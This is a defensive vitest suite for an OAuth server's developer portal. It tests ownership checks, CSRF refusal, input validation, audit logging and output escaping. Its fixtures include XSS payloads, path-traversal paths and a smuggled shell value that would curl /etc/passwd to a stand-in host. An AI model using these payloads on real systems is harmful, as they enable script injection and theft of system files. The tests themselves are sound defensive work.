/** Who may do what at the developer portal: tables over all of its routes, and of what strangers try. */
import { beforeAll, describe, expect, it, vi } from 'vitest'
import { checksFor } from '../../src/portals/developer/checks.ts'
import { developerRoutes } from '../../src/portals/developer/routes.ts'
import type { AuditEvent, AuditType } from '../../src/protocol/audit.ts'
import { operatorRole } from '../../src/protocol/management.ts'
import { getClient, updateClient } from '../../src/registry/clients.ts'
import { getResource, linkClient } from '../../src/registry/resources.ts'
import { updateSettings } from '../../src/registry/settings.ts'
import { updateUser } from '../../src/registry/users.ts'
import {
  authorizeUrl,
  issuer,
  later,
  newBrowser,
  registerApi as operatorsApi,
  send,
  stopClock,
} from '../support/app.ts'
import { callbackUri, plainApp, registerApi, registerApp, type Visitor, visitor } from '../support/portal.ts'
import { change, operator, server } from '../support/registry.ts'
import { setUpCodes } from '../support/second-factor.ts'

const orders = 'https://orders.example.com'
let dora: Visitor
let emil: Visitor
let carl: Visitor
let app: string
let api: string

beforeAll(async () => {
  dora = await visitor('dora')
  emil = await visitor('emil')
  carl = await visitor('carl', [])
  app = (await registerApp(dora)).id
  api = await registerApi(dora, orders)
})

/** Every route that is of one application or API, with the path of dora's, of one that is not there, and the methods. */
const owned = developerRoutes
  .filter(({ path }) => /:(app|api)/.test(path))
  .flatMap(({ path, methods }) => Object.keys(methods).map((method) => [method, path] as const))

const every = developerRoutes.flatMap(({ path, methods }) =>
  Object.keys(methods).map((method) => [method, path] as const),
)

const filled = (path: string, ids: { app: string; api: string }) =>
  path.replace(':app', ids.app).replace('/developer/apis/:api', ids.api)
const theirs = () => ({ app, api })
const nobodys = {
  app: 'c0ffee00-0000-4000-8000-000000000000',
  api: '/developer/apis/aHR0cHM6Ly9ub25lLmV4YW1wbGU',
}

/** What could be changed: both records, with owners and secrets. */
const records = async () => JSON.stringify([await getClient(server, app), await getResource(server, orders)])

const attempt = (by: Visitor, method: string, path: string) =>
  method === 'GET'
    ? by.browser.fetch(issuer + path).then(async (r) => ({ status: r.status, html: await r.text() }))
    : by.post(path, {
        ...plainApp,
        name: 'Corner Shop',
        owner: dora.sub,
        secret: 'x',
        pasted: 'a.b.c',
        login: 'emil',
      })

/** What differs by chance, and what names the page itself. */
const bare = (html: string) =>
  html.replace(/name="(token|path)" value="[^"]*"|req_[\w-]+/g, '').replace(/<title>.*<\/title>/, '')

describe('another developer', () => {
  it.each(owned)('%s %s is not there for them, and nothing happens', async (method, path) => {
    const before = await records()
    const seen = await attempt(emil, method, filled(path, theirs()))
    const missing = await attempt(emil, method, filled(path, nobodys))
    expect([seen.status, missing.status]).toEqual([404, 404])
    expect(bare(seen.html)).toBe(bare(missing.html)) // not even whether it exists
    expect(await records()).toBe(before)
  })
  it('sees none of it in their lists', async () => {
    expect((await emil.open('/developer')).text).not.toContain('Corner Shop')
    expect((await emil.open('/developer/apis')).text).not.toContain(orders)
  })
})

describe('somebody without the role', () => {
  it.each(every)('%s %s is not open to them', async (method, path) => {
    const before = await records()
    await carl.open('/developer')
    expect((await attempt(carl, method, filled(path, theirs()))).status).toBe(403)
    expect(await records()).toBe(before)
  })
})

describe('nobody', () => {
  it.each(every)('%s %s leads to the sign-in', async (method, path) => {
    const response = await send(
      new Request(issuer + filled(path, theirs()), {
        method,
        redirect: 'manual',
        ...(method === 'POST' && {
          body: 'x=1',
          headers: { 'content-type': 'application/x-www-form-urlencoded', origin: issuer },
        }),
      }),
    )
    expect([response.status, response.headers.get('location')?.split('?')[0]]).toEqual([303, '/sign-in'])
  })
})

describe('a form from elsewhere', () => {
  const posts = every.filter(([method]) => method === 'POST').map(([, path]) => path)
  it.each(posts)('POST %s is refused, whoever is signed in', async (path) => {
    const before = await records()
    await dora.open('/developer')
    await emil.open('/developer')
    const to = filled(path, theirs())
    const tries: Record<string, [fields: Record<string, string>, headers: Record<string, string>]> = {
      'without a token': [{ token: '' }, {}],
      "with another session's token": [{ token: emil.token }, {}],
      'from another site': [{}, { origin: 'https://elsewhere.example' }],
      'from a sandbox': [{}, { origin: 'null' }],
      'across sites': [{}, { 'sec-fetch-site': 'cross-site' }],
      'from another host of this site': [{}, { 'sec-fetch-site': 'same-site' }],
    }
    for (const [tried, [fields, headers]] of Object.entries(tries)) {
      const { status } = await dora.post(to, { ...plainApp, ...fields }, headers)
      expect([tried, status]).toEqual([tried, 400])
    }
    expect(await records()).toBe(before)
  })
})

describe('bad input', () => {
  it.each([
    '/developer?after=x',
    '/developer?after=W10',
    '/developer/apis?after=WzAsMSwyXQ',
    '/developer/apps/%00',
    `/developer/apps/${'x'.repeat(3_000)}`,
    '/developer/apps/..%2f..%2fadmin',
    '/developer/apis/%ff',
    '/developer/apis/A',
    `/developer/apis/${'A'.repeat(4_000)}`,
    '/developer/invitation?of=x',
    '/developer/try?code=x&state=y',
  ])('GET %s is no fault of ours', async (path) => {
    const { status } = await dora.open(path)
    expect(status).toBeGreaterThanOrEqual(400)
    expect(status).toBeLessThan(500)
  })

  it('in any form is no fault of ours either', async () => {
    await dora.open('/developer')
    const long = 'x'.repeat(20_000)
    for (const [, path] of every.filter(([method]) => method === 'POST')) {
      for (const fields of [
        {},
        { version: 'x', name: long, client_name: long, identifier: long, of: long, pasted: long },
      ]) {
        const { status } = await dora.post(filled(path, theirs()), fields)
        expect([path, status < 500]).toEqual([path, true])
      }
    }
    const { status } = await dora.post('/developer/apps/new', {
      ...plainApp,
      redirect_uris: 'x'.repeat(70_000),
    })
    expect(status).toBe(400)
  })

  it('about applications that do not ask for an API tells its owner nothing', async () => {
    const other = (await registerApp(emil)).id
    await dora.open(api)
    const answers = await Promise.all(
      ['nothing', other].map((client) => dora.post(`${api}/unlink`, { client })),
    )
    expect(answers.map(({ status, location }) => [status, location])).toEqual([
      [303, `${api}?done=unlinked`],
      [303, `${api}?done=unlinked`],
    ])
  })
})

describe('developer_access', () => {
  it.each([
    ['everyone', 200, 200],
    ['nobody', 403, 403],
    ['role', 200, 403],
  ] as const)('%s', async (developer_access, developer, customer) => {
    await updateSettings(server, change(), { developer_access })
    expect((await dora.open('/developer')).status).toBe(developer)
    expect((await carl.open('/developer')).status).toBe(customer)
  })
})

describe('what strangers write', () => {
  const nasty = `"><script>alert(1)</script><img src=x onerror=alert(1)>' \u202egnp.exe`

  it.each([
    ['client_uri', 'javascript:alert(1)'],
    ['client_uri', 'data:text/html,<script>alert(1)</script>'],
    ['policy_uri', 'javascript:alert(1)//https://shop.example.com'],
    ['tos_uri', ' vbscript:msgbox(1)'],
    ['logo_uri', 'http://shop.example.com/logo.png'],
    ['logo_uri', 'data:image/svg+xml,<svg onload=alert(1)>'],
    ['initiate_login_uri', 'javascript:alert(1)'],
    ['redirect_uris', 'javascript:alert(1)'],
    ['redirect_uris', 'https://shop.example.com/callback#x'],
    ['redirect_uris', 'http://shop.example.com/callback'],
    ['redirect_uris', 'https://shop.example.com\\@elsewhere.example/'],
    ['redirect_uris', 'https://*.example.com/callback'],
  ])('%s %s is refused at its field, and what was typed is kept', async (field, value) => {
    const { status, html } = await dora.post('/developer/apps/new', { ...plainApp, [field]: value })
    expect(status).toBe(400)
    expect(html).toMatch(new RegExp(`id="${field}-problem"`))
    expect(html).toContain('value="Corner Shop"')
    expect(html).toContain(value.replaceAll('<', '&lt;').replaceAll('>', '&gt;').trim())
  })

  it('stays text on every page that shows it', async () => {
    const named = await registerApp(dora, {
      client_name: nasty,
      logo_uri: 'https://shop.example.com/"onerror="alert(1)',
      policy_uri: 'https://shop.example.com/"><script>alert(1)</script>',
    })
    const path = await registerApi(dora, 'https://nasty.example.com', {
      name: nasty,
      scope_0: 'nasty.read',
      sentence_0: nasty,
    })
    const url = authorizeUrl({
      client_id: named.id,
      redirect_uri: callbackUri,
      scope: 'openid',
      prompt: 'consent',
    })
    await dora.browser.open(
      `${url}&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256`,
    )
    const pages = [{ html: dora.browser.html, text: dora.browser.text }]
    for (const page of ['', '/edit', '/try', '/log', '/delete'])
      pages.push(await dora.open(`/developer/apps/${named.id}${page}`))
    for (const page of ['', '/edit', '/check', '/delete']) pages.push(await dora.open(path + page))
    pages.push(
      await dora.open('/developer'),
      await dora.open('/developer/apis'),
      await dora.open('/developer/apps/new'),
    )
    pages.push(
      await dora.post('/developer/apps/new', { ...plainApp, client_name: nasty, redirect_uris: nasty }),
    )
    pages.push(await dora.post(`/developer/apps/${named.id}/owners`, { login: nasty }))
    pages.push(await dora.post(`${path}/check`, { pasted: `${nasty}.x.y`, scope: nasty }))
    for (const { html } of pages) {
      expect(html).not.toMatch(/<script(?! type="module" src="\/portal\.js\?v=[a-z0-9]+")/)
      expect(html.replace(/="[^"]*"/g, '=""')).not.toMatch(/<[^>]*\son\w+=/)
      expect(html).not.toMatch(/<(img|a|form)[^>]*(src|href|action)="(?!\/|https?:|#)/)
    }
  })

  it('is nothing that a terminal would run: what another owner typed is quoted', async () => {
    const { id } = await registerApp(dora, {
      redirect_uris: "http://localhost:3000/';curl$IFS-d@/etc/passwd$IFS''http://elsewhere.example;'",
    })
    const { html } = await dora.open(`/developer/apps/${id}`)
    const code = html.replaceAll('&#39;', "'")
    // Whatever opens a quote closes it: outside of quotes there is never a second command.
    for (const [, line = ''] of code.matchAll(/--data-urlencode ([^\n<]*)/g)) {
      expect(line.replace(/'[^']*'|\\'/g, '')).not.toMatch(/[;$`|&\s]/)
    }
  })
})

describe('a scope', () => {
  it('is no variable of nginx', async () => {
    await registerApi(dora, 'https://dollar.example.com', { scope_0: 'pay$request_uri' })
    const { resource } = (await getResource(server, 'https://dollar.example.com')) ?? {}
    if (!resource) throw new Error('it was not registered')
    const [, conf] = checksFor(issuer, resource).find(({ id }) => id === 'nginx')?.parts ?? []
    expect(conf?.code).toContain(`set $needed_scope "pay\${dollar}request_uri";`)
    expect(conf?.code).toMatch(/geo \$dollar \{\s+default "\$";/)
  })
})

describe('an API that is somebody else’s', () => {
  const tick = (identifier: string, scope: string) => ({ [`api:${identifier} ${scope}`]: 'on' })

  it('cannot be given to an application by a form that says so', async () => {
    const { id } = await registerApp(emil, tick(orders, 'orders.read'))
    const { client } = (await getClient(server, id))!
    expect([client.resources, client.scope]).toEqual([[], ['openid', 'profile', 'email', 'offline_access']])
  })

  it('can, once its owner has opened it to every developer', async () => {
    await dora.open(`${api}/edit`)
    const record = { name: 'Orders', scope_0: 'orders.read', sentence_0: 'See your orders' }
    expect(
      (await dora.post(`${api}/edit`, { ...record, version: '1', open_to_developers: 'on' })).status,
    ).toBe(303)
    const { id } = await registerApp(emil, { kind: 'machine', ...tick(orders, 'orders.read') })
    const { client } = (await getClient(server, id))!
    expect(client).toMatchObject({
      resources: [orders],
      scope: ['orders.read'],
      default_scope: ['orders.read'],
    })
    await dora.open(api)
    await dora.post(`${api}/unlink`, { client: id })
    expect((await getClient(server, id))?.client).toMatchObject({ resources: [], scope: [] })
  })

  it('that an operator has given is not widened by a scope of the same name at an own API', async () => {
    const vault = 'https://vault.example.com'
    await operatorsApi({
      identifier: vault,
      name: 'Vault',
      scopes: { 'vault.read': 'Look', 'vault.write': 'Take' },
    })
    const { id } = await registerApp(emil)
    await linkClient(server, operator(), vault, id, ['vault.read'])
    await registerApi(emil, 'https://mine.example.com', { scope_0: 'vault.write', sentence_0: 'Mine' })
    const { version } = (await getClient(server, id))!
    const edited = {
      ...plainApp,
      version: String(version),
      'grant:authorization_code': 'on',
      ...tick('https://mine.example.com', 'vault.write'),
      ...tick(vault, 'vault.write'),
    }
    const { status, text } = await emil.post(`/developer/apps/${id}/edit`, edited)
    expect([status, text]).toEqual([400, expect.stringContaining('vault.write is also a scope of Vault')])
    const without = Object.fromEntries(
      Object.entries(edited).filter(([name]) => !name.includes('mine.example')),
    )
    expect((await emil.post(`/developer/apps/${id}/edit`, without)).status).toBe(303)
    const { client } = (await getClient(server, id))!
    expect(client.scope.filter((scope) => scope.startsWith('vault'))).toEqual(['vault.read'])
  })

  it('is not this server itself: nobody registers its own identifiers', async () => {
    for (const identifier of [issuer, `${issuer}/management/v1`]) {
      const made = await dora.post('/developer/apis/new', {
        name: 'Mine',
        identifier,
        scope_0: 'a',
        sentence_0: 'b',
      })
      expect([identifier, made.status]).toEqual([identifier, 400])
    }
  })

  it('keeps what only an operator may set: whose tokens look like those of light-oauth2', async () => {
    const path = await registerApi(dora, 'https://older.example.com', { token_profile: 'light-oauth2' })
    expect((await getResource(server, 'https://older.example.com'))?.resource.token_profile).toBe('rfc9068')
    expect((await dora.open(`${path}/edit`)).html).not.toContain('token_profile')
  })
  it('and an operator only who has proven themself twice, here and at their own account', async () => {
    const once = await visitor('once')
    await updateUser(server, operator(), once.sub, { roles: ['developer', operatorRole] })
    const page = await once.open('/developer/apis/new')
    expect([page.status, page.html.includes('token_profile')]).toEqual([200, false])
    await registerApi(once, 'https://old.example.com', { token_profile: 'light-oauth2' })
    expect((await getResource(server, 'https://old.example.com'))?.resource.token_profile).toBe('rfc9068')
    for (const path of ['/account', '/account/delete', '/account/security']) {
      await once.open(path)
      expect([path, once.browser.path]).toEqual([path, '/enroll'])
    }
    const { location } = await once.post('/account', { name: 'Somebody else' })
    expect(location).toMatch(/^\/enroll/)
    await setUpCodes(once.browser, 'once')
    expect((await once.open('/account')).text).toContain('once by name')
    expect((await once.open('/developer/apis/new')).html).toContain('token_profile')
  })
})

describe('an application of the management API', () => {
  it('is an operator’s: its owners get no secret and no token of it', async () => {
    const { id } = await registerApp(emil, { kind: 'machine' })
    await linkClient(server, operator(), `${issuer}/management/v1`, id, ['users:write'])
    const before = JSON.stringify(await getClient(server, id))
    await emil.open(`/developer/apps/${id}`)
    expect((await emil.open(`/developer/apps/${id}`)).html).not.toContain('/try')
    for (const path of ['/try', '/try/itself', '/try/token', '/secrets']) {
      const { status } = await emil.post(`/developer/apps/${id}${path}`)
      expect([path, status >= 400 && status < 500]).toEqual([path, true])
    }
    expect(JSON.stringify(await getClient(server, id))).toBe(before)
  })
})

describe('the audit trail', () => {
  const told = async (by: Visitor, type: string) => {
    await server.stores.tally.flush(Date.now())
    const { events } = await server.stores.audit.list({ type: type as AuditType, actor: by.sub, limit: 50 })
    return events
  }

  it('names whoever was refused something that is not theirs, and which application it was', async () => {
    const fay = await visitor('fay')
    const gus = await visitor('gus', [])
    await fay.open(`/developer/apps/${app}/edit`)
    await fay.post(`/developer/apps/${app}/owners/remove`, { owner: dora.sub })
    const own = (await registerApp(fay)).id
    await fay.post(`/developer/apps/${own}/owners/remove`, { owner: fay.sub })
    await fay.open('/admin/settings')
    await gus.open('/developer/apis/new')
    const what = (events: AuditEvent[]) =>
      events.map(({ outcome, clientId, detail }) => [outcome, clientId, detail?.endpoint])
    expect(what(await told(fay, 'refusal')).sort()).toEqual([
      ['conflict', undefined, 'POST /developer/apps/:app/owners/remove'],
      ['forbidden', undefined, 'GET /admin/settings'],
      ['not_found', app, 'GET /developer/apps/:app/edit'],
      ['not_found', app, 'POST /developer/apps/:app/owners/remove'],
    ])
    expect(what(await told(gus, 'refusal'))).toContainEqual([
      'forbidden',
      undefined,
      'GET /developer/apis/new',
    ])
  })

  it('names whoever had a token of an application made, or asked somebody to own it', async () => {
    const own = await registerApi(dora, 'https://told.example.com', { scope_0: 'told.x' })
    const { id } = await registerApp(dora, { kind: 'machine', 'api:https://told.example.com told.x': 'on' })
    expect((await dora.post(`/developer/apps/${id}/try/itself`)).text).toContain('The access token')
    expect(await told(dora, 'token')).toMatchObject([{ clientId: id, subject: dora.sub }])
    await dora.post(`/developer/apps/${id}/owners`, { login: 'EMIL' })
    await dora.post(`${own}/owners`, { login: 'nobody-at-all' })
    const [invited] = await told(dora, 'client.owner_invited')
    expect(invited).toMatchObject({ clientId: id, target: { kind: 'client', id }, subject: emil.sub })
    const [other] = await told(dora, 'resource.owner_invited')
    expect(other?.target).toMatchObject({ id: 'https://told.example.com' })
    expect(JSON.stringify(other)).not.toMatch(/subject|nobody-at-all/)
  })
})

describe('the answer of a run of "try it"', () => {
  const tryUri = `${issuer}/developer/try`
  const challenge = {
    code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
    code_challenge_method: 'S256',
  }

  /** Begins a run, and answers the authorization request that it sends the browser with. */
  async function begun(id: string): Promise<URL> {
    await dora.open(`/developer/apps/${id}/try`)
    const { location } = await dora.post(`/developer/apps/${id}/try`, { 'scope:openid': 'on', as: 'me' })
    return new URL(location ?? '', issuer)
  }

  it('goes nowhere without the state that was sealed for its owner, in their browser, for this client', async () => {
    const other = (await registerApp(dora)).id
    const request = await begun(app)
    const state = request.searchParams.get('state') ?? ''
    const forOther = (await begun(other)).searchParams.get('state') ?? ''
    const plain = {
      client_id: app,
      redirect_uri: tryUri,
      response_type: 'code',
      scope: 'openid',
      ...challenge,
    }
    const table: Record<string, [Record<string, string>, boolean]> = {
      'no state': [plain, true],
      'a made-up state': [{ ...plain, state: 'xyz' }, true],
      "another client's state": [{ ...plain, state: forOther }, true],
      'a changed address': [{ ...plain, state, redirect_uri: `${tryUri}/` }, true],
      'an address below it': [{ ...plain, state, redirect_uri: `${tryUri}/../../elsewhere` }, true],
      'another browser': [{ ...plain, state }, false],
    }
    for (const [tried, [query, inOwn]] of Object.entries(table)) {
      const browser = inOwn ? dora.browser.newTab() : newBrowser()
      const location = await browser.open(`${issuer}/oauth2/authorize?${new URLSearchParams(query)}`)
      expect([tried, location, browser.status]).toEqual([tried, undefined, 400])
      expect(browser.text).toContain('is not registered for this client')
    }
    const good = dora.browser.newTab()
    await good.open(request.href)
    expect(good.path).toBe('/consent')
  })

  it('is over once the application has become one of the management API, however far it was', async () => {
    const { id } = await registerApp(dora)
    const request = await begun(id)
    const tab = dora.browser.newTab()
    await tab.open(request.href)
    await tab.submit({ action: 'allow' })
    const { code = '', state = '', token = '' } = tab.hidden()
    await updateClient(server, operator(), id, {
      resources: [`${issuer}/management/v1`],
      scope: ['openid', 'users:write'],
    })
    dora.token = token
    const done = await dora.post(`/developer/apps/${id}/try/token`, { code, state })
    expect([done.status, done.text.includes('access token')]).toEqual([404, false])
    stopClock()
    later(130) // no copy of the client is older
    const again = dora.browser.newTab()
    const asked = { scope: 'openid users:write', resource: `${issuer}/management/v1` }
    for (const [name, value] of Object.entries(asked)) request.searchParams.set(name, value)
    expect(await again.open(request.href)).toBeUndefined()
    expect([again.status, again.text]).toEqual([400, expect.stringContaining('is not registered for this')])
    vi.useRealTimers()
  })

  it('is for who began it: another owner of the portal learns nothing from the address', async () => {
    const request = await begun(app)
    const tab = dora.browser.newTab()
    await tab.open(request.href)
    await tab.submit({ action: 'allow' })
    expect(tab.path).toBe('/developer/try')
    const seen = await emil.open(tab.url.slice(issuer.length))
    expect([seen.status, seen.text]).toEqual([400, expect.stringContaining('This run is over')])
    const { code = '', state = '' } = tab.hidden()
    const mine = (await registerApp(emil)).id
    expect((await emil.post(`/developer/apps/${mine}/try/token`, { code, state })).status).toBe(400)

    dora.token = tab.hidden().token ?? ''
    const done = await dora.post(`/developer/apps/${app}/try/token`, { code, state })
    expect(done.text).toContain('The access token')
    const again = await dora.post(`/developer/apps/${app}/try/token`, { code, state })
    expect(again.text).toContain('invalid_grant')
  })
})
